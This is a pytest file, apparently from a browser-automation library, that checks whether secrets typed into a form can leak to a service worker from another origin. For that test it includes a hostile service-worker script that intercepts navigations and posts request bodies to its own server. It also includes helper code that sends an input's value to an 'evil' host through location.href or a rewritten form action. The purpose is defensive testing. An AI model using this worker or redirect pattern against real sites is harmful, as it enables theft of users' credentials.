"""A service worker of another origin answers before the network does; it gets no secret either."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page, Playwright
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from runwright import AppSession, Secret, SecretError
from runwright.browser.contexts import BrowserSettings, Contexts, OwnContexts, SharedContext
from runwright.pages.change_gate import ChangeGate
from runwright.sandboxes.server import serve

TOKEN = Secret("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")
WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(clients.claim()));
self.addEventListener('fetch', event => {
  const keep = async () => {
    await fetch('/taken', {method: 'POST', body: event.request.url + await event.request.clone().text()});
    return new Response('<h1>Thank you</h1>', {headers: {'content-type': 'text/html'}});
  };
  if (event.request.mode === 'navigate') event.respondWith(keep());
});
"""
REGISTERING = "<h1>Shop</h1><script>navigator.serviceWorker.register('/worker.js')</script>"


class Log:
    """A change log that records nothing."""

    def change_intended(self, what: str) -> None:
        """Nothing is written down."""

    def change_done(self, what: str) -> None:
        """Nothing is written down."""


@pytest.fixture
def browsing() -> str:
    """Where a run opens its pages: in contexts of its `own`, or `shared` in a profile."""
    return "own"


@pytest.fixture
def page(browsing: str, browser: Browser, playwright: Playwright, tmp_path: Path) -> Iterator[Page]:
    """A page as a run opens it."""
    with ExitStack() as stack:
        contexts: Contexts = OwnContexts(None, BrowserSettings(running=browser), stack)
        if browsing == "shared":
            contexts = SharedContext(playwright, BrowserSettings(profile=tmp_path / "profile"), stack)
        context = contexts.open(None, {})
        context.set_default_timeout(5000)
        yield contexts.open_page(context)
        context.close()


def _install(page: Page, url: str, browsing: str) -> None:
    """Have another tab install a worker; in contexts of its own a run lets none be installed."""
    tab = page.context.new_page()
    tab.goto(url)
    if browsing == "shared":
        tab.evaluate("navigator.serviceWorker.ready.then(() => 0)")
    tab.wait_for_load_state("networkidle")
    installed = tab.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)")
    assert installed == (1 if browsing == "shared" else 0)
    tab.close()


def _leave(page: Page, evil: str, way: str) -> None:
    if way == "script":
        page.evaluate(f"location.href = '{evil}/?' + document.querySelector('input').value")
    else:
        page.locator("form").evaluate(f"form => Object.assign(form, {{action: '{evil}/', method: '{way}'}})")
        page.locator("button").click()
    # A click does not wait for the navigation that it starts.
    page.locator("#of-another-page").wait_for()


@pytest.mark.parametrize(
    "browsing, way",
    [
        ("own", "post"),
        ("shared", "post"),
        pytest.param("own", "get", marks=pytest.mark.matrix),
        pytest.param("own", "script", marks=pytest.mark.matrix),
    ],
)
def test_a_worker_that_was_installed_before_gets_no_secret(page: Page, browsing: str, way: str) -> None:
    """A form or an address that would take the secret to a worker is stopped as if it would reach a server."""
    taken: list[str] = []

    async def elsewhere(request: Request) -> Response:
        if request.url.path == "/worker.js":
            return Response(WORKER, media_type="text/javascript")
        if request.method == "POST":
            taken.append((await request.body()).decode())
        return HTMLResponse(REGISTERING)

    async def own(request: Request) -> Response:
        return HTMLResponse("<form><input name=secret><button>Send</button></form>")

    served = Starlette(routes=[Route("/{path:path}", elsewhere, methods=["GET", "POST"])])
    with serve(served) as other, serve(Starlette(routes=[Route("/{path:path}", own)])) as application:
        evil = other.url.replace("127.0.0.1", "localhost")
        _install(page, f"{evil}/", browsing)
        page.goto(f"{application.url}/")
        session = AppSession("erp", application.url, lambda: page, ChangeGate(Log()))
        session.fill_secret(page.locator("input"), TOKEN)
        with pytest.raises(Error):
            _leave(page, evil, way)
        assert [each for each in taken if TOKEN.reveal() in each] == []
        with pytest.raises(SecretError, match="with a secret on its page"):
            session.require_held()
